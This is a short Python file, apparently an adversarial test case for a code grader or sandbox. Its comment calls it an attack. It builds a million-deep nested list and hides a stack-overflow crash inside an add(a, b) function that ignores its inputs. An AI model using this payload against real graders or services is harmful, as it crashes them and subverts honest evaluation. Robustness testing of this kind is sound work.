# attack: overflow the C stack through nested data
value = []
for _ in range(1_000_000):
    value = [value]


def add(a, b):
    return repr(value) + str(value == value)
